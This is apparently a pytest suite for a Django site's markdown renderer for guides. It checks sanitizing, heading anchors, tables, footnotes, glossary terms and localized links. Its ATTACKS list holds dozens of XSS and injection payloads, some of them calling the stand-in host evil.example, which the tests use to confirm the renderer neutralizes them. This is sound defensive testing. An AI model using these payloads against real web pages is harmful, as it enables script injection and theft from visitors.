"""Markdown of guides: what authors may write, what becomes of it, and what is left of an attack: words."""

import html5lib
import pytest
from django.utils.translation import override

from catalog.guides import markdown
from tests.factories import GlossaryTermFactory
from tests.pages import Document

ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<body onload=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<style>*{background:url(//evil.example)}</style>",
    "<form action=//evil.example><input name=q></form>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<!--><script>alert(1)</script-->",
    "<div style='position:fixed' id=main>x</div>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](vbscript:msgbox(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](//evil.example/a)",
    "[x](/es/../admin/)",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "![x](javascript:alert(1))",
    "![x](data:image/svg+xml;base64,PHN2Zy8+)",
    "![x](https://evil.example/pixel.png)",
    '![x](x "onerror=alert(1)")',
    '![x" onerror="alert(1)](img/icon.svg)',
    '[x](https://example.org/"onmouseover="alert(1))',
    '[x](https://example.org "\\" onmouseover=\\"alert(1)")',
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\ncode\n```',
    "`<script>alert(1)</script>`",
    "## <img src=x onerror=alert(1)>",
    '## Title {#x" onclick="alert(1)}',
    "::: note <script>alert(1)</script>\ntext\n:::",
    "| <script>alert(1)</script> |\n|---|\n| <b onclick=alert(1)>x</b> |",
    "text[^1]\n\n[^1]: <script>alert(1)</script>",
    "[[kv-cache|<script>alert(1)</script>]]",
    "\ue0000\ue001",
    "\ue000<script>\ue001",
    "\x00<script>alert(1)</script>",
]
ALLOWED_SCHEMES = ("http://", "https://", "mailto:", "/", "#")


def rendered(text, guides=None):
    document = markdown.parse(text)
    return markdown.to_html(document, {call.key: "" for call in document.calls}, guides or {})


@pytest.mark.parametrize("text", ATTACKS)
def test_an_attack_leaves_nothing_but_words(db, text):
    html = rendered(text)
    for tag, attributes in Document(html).elements:
        assert tag in markdown.TAGS, (tag, html)
        assert not [name for name in attributes if name.startswith("on") or name in ("style", "srcset")], html
        assert attributes.get("id") not in markdown.TAKEN, html
        for name in ("href", "src"):
            if name in attributes:
                assert attributes[name].startswith(ALLOWED_SCHEMES), html
                assert not attributes[name].startswith("//"), html
        if "src" in attributes:
            assert attributes["src"].startswith("/static/"), html


@pytest.mark.parametrize("text", ATTACKS)
def test_what_is_left_of_an_attack_is_valid(db, text):
    parser = html5lib.HTMLParser()
    parser.parse(f"<!doctype html><html lang=es><title>x</title><main>{rendered(text)}</main></html>")
    assert parser.errors == []


def test_words_of_an_attack_can_still_be_read(db):
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in rendered("<script>alert(1)</script>")


# Headings


@pytest.mark.parametrize(
    ("heading", "anchor"),
    [
        ("## Memoria y tamaño", "memoria-y-tamano"),
        ("## Сколько памяти нужно ёлке", "skolko-pamiati-nuzhno-elke"),
        ("## GPU: 8 × H100?", "gpu-8-h100"),
        ("## …", "section"),
        ("## Anything {#lasting-name}", "lasting-name"),
    ],
)
def test_a_heading_has_an_anchor_in_ascii(heading, anchor):
    document = markdown.parse(heading)
    assert [row.anchor for row in document.headings] == [anchor]
    assert f'<h2 id="{anchor}">' in rendered(heading)


def test_an_anchor_that_is_taken_is_told_and_stays_unique():
    document = markdown.parse("## Uno {#a}\n\ntexto\n\n## Dos {#a}\n\n## Main {#main}\n")
    assert [row.anchor for row in document.headings] == ["a", "a-2", "main-2"]
    assert [line for line, _message in document.problems] == [5, 7]
    assert "«a»" in document.problems[0][1]


def test_the_contents_have_two_levels():
    document = markdown.parse("## Uno\n### A\n#### i\n### B\n## Dos\n")
    found = [(head.text, [part.text for part in below]) for head, below in document.contents]
    assert found == [("Uno", ["A", "B"]), ("Dos", [])]


@pytest.mark.parametrize(("text", "line"), [("# Uno", 1), ("## A\n\n#### B", 3), ("texto\n\n##", 3)])
def test_a_heading_out_of_order_is_told_with_its_line(text, line):
    assert [row for row, _message in markdown.parse(text).problems] == [line]


# Tables, notes, figures, footnotes, terms


def test_cells_that_head_a_column_or_row_say_so(db):
    html = rendered("|  | A |\n|---|---|\n| uno | 1 |\n")
    assert '<td></td>\n<th scope="col">A</th>' in html
    assert '<th scope="row">uno</th>\n<td>1</td>' in html
    assert '<th scope="row">' not in rendered("| Q | A |\n|---|---|\n| uno | 1 |\n")


def test_two_tables_of_a_page_are_told_apart(db):
    table = "| Q | A |\n|---|---|\n| uno | 1 |\n"
    with override("en"):
        html = rendered(f"{table}\n{table}")
    assert 'aria-label="Table 1"' in html
    assert 'aria-label="Table 2"' in html


def test_a_note_has_a_title_and_markdown_in_it(db):
    html = rendered("::: warning Cuidado <b>\ncon *esto*\n:::\n")
    assert '<div class="note note-warn" role="note"><p class="note-title"><strong>Cuidado &lt;b&gt;' in html
    assert "<em>esto</em>" in html


def test_a_picture_of_its_own_is_a_figure_with_its_caption(db):
    html = rendered('![Un rack](img/icon.svg "Así se ve")')
    assert html == (
        '<figure><img src="/static/img/icon.svg" alt="Un rack"><figcaption>Así se ve</figcaption></figure>\n'
    )


def test_a_picture_needs_its_text_and_its_file():
    document = markdown.parse("texto\n\n![](img/icon.svg)\n\n![x](guides/none.svg)\n")
    assert [line for line, _message in document.problems] == [3, 5]


def test_a_footnote_leads_there_and_back(db):
    with override("en"):
        html = rendered("uno[^a] y dos[^a]\n\n[^a]: La nota.\n")
    assert '<a href="#fn1" id="fnref1" aria-label="Note 1">1</a>' in html
    assert '<a href="#fn1" id="fnref1-1" aria-label="Note 1">1</a>' in html
    assert '<li id="fn1"><p>La nota.' in html
    assert html.count('class="footnote-backref"') == 2


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("la [[kv-cache]]", 'la <a class="term" href="/es/glosario/#kv-cache">caché KV</a>'),
        ("[[kv-cache|ella]]", '<a class="term" href="/es/glosario/#kv-cache">ella</a>'),
        (
            "| a |\n|---|\n| [[kv-cache\\|ella]] |",
            '<td><a class="term" href="/es/glosario/#kv-cache">ella</a>',
        ),
        ("[[nada|ella]]", "<p>ella</p>"),
        ("`[[kv-cache]]`", "<code>[[kv-cache]]</code>"),
    ],
)
def test_a_marked_word_leads_to_the_glossary(db, text, expected):
    GlossaryTermFactory(slug="kv-cache", name_es="Caché KV")
    assert expected in rendered(text)


# Links


@pytest.mark.parametrize(
    ("language", "href", "expected"),
    [
        ("es", "server:thinksystem-sr675-v3", "/es/servidores/thinksystem-sr675-v3/"),
        ("ru", "server:thinksystem-sr675-v3", "/ru/servery/thinksystem-sr675-v3/"),
        ("en", "page:servers?stage=training&rack_units=1", "/en/servers/?stage=training&amp;rack_units=1"),
        ("en", "model:llama-3.3-70b", "/en/models/llama-3.3-70b/"),
        ("en", "guide:memory#cache", "/en/guides/memory-of-gpus/#cache"),
    ],
)
def test_a_link_follows_the_readers_language(db, language, href, expected):
    with override(language):
        assert f'<a href="{expected}">x</a>' in rendered(f"[x]({href})", {"memory": "memory-of-gpus"})


@pytest.mark.parametrize(
    "href", ["guide:unknown", "page:nothing", "/es/servidores/", "servidores/", "foo:bar"]
)
def test_a_link_that_leads_nowhere_stays_as_words(db, href):
    assert "href" not in rendered(f"[palabras]({href})")
    assert "palabras" in rendered(f"[palabras]({href})")


def test_blocks_are_found_with_their_lines():
    sentences = "uno\n\ndos {{ figure a b }}\ntres {{ figure c d }}\n\n"
    text = f"{sentences}```servers\nstage=training\n```\n\n```text\nx\n```\n"
    found = [(call.kind, call.line, call.inline) for call in markdown.parse(text).calls]
    assert found == [("figure", 3, True), ("figure", 4, True), ("servers", 6, False)]


def test_a_text_of_four_hundred_words_takes_two_minutes():
    assert markdown.parse("palabra " * 400).minutes == 2
    assert markdown.parse("").minutes == 1


@pytest.mark.parametrize(
    "text",
    [
        "```tabla\nstage=training\n```",
        "```Servers\nstage=training\ncaption=Uno\n```",
        "```servers stage=training\ncaption=Uno\n```",
        "Hasta {{ bogus }} GPU.",
        "Hasta {{ figure thinksystem-sr675-v3 gpus_max GPU.",
        "![Un rack](/static/img/icon.svg)",
        "![Un rack](../settings.py)",
    ],
)
def test_what_readers_would_see_as_code_or_never_see_is_told_with_its_line(text):
    assert [line for line, _message in markdown.parse(f"Uno\n\n{text}\n").problems] == [3]


def test_code_in_a_known_language_is_no_mistake():
    assert markdown.parse("```bash\nmake run  # {{ as it is }}\n```\n\n`{{ as it is }}`\n").problems == []
